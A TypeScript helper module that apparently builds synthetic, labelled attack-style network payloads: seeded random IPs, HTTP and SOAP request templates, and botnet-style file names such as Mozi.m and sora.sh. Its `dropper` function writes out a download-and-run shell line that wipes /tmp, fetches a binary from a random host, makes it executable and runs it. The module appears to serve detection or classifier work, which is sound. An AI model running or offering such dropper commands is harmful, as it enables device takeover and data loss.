// What labelled payloads are made of: chance that repeats itself, hosts, names, requests. Nothing in it is real.

export interface PayloadKind {
  readonly name: string;
  make(chance: Chance): Buffer;
}

/** The same numbers every time (mulberry32). */
export class Chance {
  #state: number;

  constructor(seed: number) {
    this.#state = seed >>> 0;
  }

  /** Below `limit`. */
  number(limit: number): number {
    this.#state = (this.#state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(this.#state ^ (this.#state >>> 15), 1 | this.#state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * limit);
  }

  pick<T>(values: readonly T[]): T {
    return values[this.number(values.length)];
  }

  word(letters: string, least: number, most = least): string {
    let word = '';
    for (let left = least + this.number(most - least + 1); left > 0; left -= 1) word += letters[this.number(letters.length)];
    return word;
  }

  hex = (length: number): string => this.word('0123456789abcdef', length);
  token = (least = 8, most = 16): string =>
    this.word('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', least, most);
  digits = (least: number, most = least): string => this.word('123456789', least, most);
  address = (): string => `${1 + this.number(222)}.${this.number(256)}.${this.number(256)}.${1 + this.number(254)}`;
  bytes = (length: number): Buffer => Buffer.from(Array.from({ length }, () => this.number(256)));
}

const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4758.102 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 15_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.2 Mobile Safari/604.1',
  'Mozilla/4.0 (compatible; MSIE 9.0; Windows NT 6.1)',
];

export const host = (chance: Chance): string => chance.pick([chance.address(), `${chance.address()}:${chance.digits(4)}`]);
const names = ['jaws', 'bins.sh', 'mips', 'arm7', 'x86', 'sora.sh', 'a', 'yakuza', 'Mozi.m', 'loader'];
export const fileName = (chance: Chance): string =>
  chance.pick([chance.pick(names), chance.token(5, 9), `${chance.token(4, 6)}.sh`]);
export const url = (chance: Chance): string =>
  `http://${host(chance)}/${chance.pick(['', 'bins/', `${chance.token(4)}/`])}${fileName(chance)}`;

interface Request {
  readonly headers?: string;
  readonly body?: string;
  /** Header lines that follow the host's; the agent is one of the browsers' unless said. */
  readonly agent?: string;
}

export const web = (chance: Chance, method: string, target: string, { headers = '', body, agent }: Request = {}): Buffer =>
  Buffer.from(
    `${method} ${target} HTTP/1.1\r\nHost: ${host(chance)}\r\nUser-Agent: ${agent ?? chance.pick(agents)}\r\n` +
      `${headers}${body === undefined ? '' : `Content-Length: ${body.length}\r\n`}\r\n${body ?? ''}`,
    'latin1',
  );

export const common = 'Accept: */*\r\nAccept-Encoding: gzip\r\nConnection: close\r\n';
export const form = `${common}Content-Type: application/x-www-form-urlencoded\r\n`;
export const json = `${common}Content-Type: application/json\r\n`;
export const xml = `${common}Content-Type: text/xml\r\n`;

export function dropper(chance: Chance): string {
  const name = fileName(chance);
  return `cd /tmp; rm -rf *; wget http://${host(chance)}/${name}; chmod 777 ${name}; ./${name} ${chance.token(4, 8)}`;
}

export const soap = (service: string, inner: string): string =>
  `<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:${service}>${inner}</u:${service}></s:Body></s:Envelope>`;

export const kind = (name: string, make: (chance: Chance) => Buffer | string): PayloadKind => ({
  name,
  make: (chance) => {
    const made = make(chance);
    return typeof made === 'string' ? Buffer.from(made, 'latin1') : made;
  },
});

export const hex = (text: string): Buffer => Buffer.from(text.replaceAll(' ', ''), 'hex');
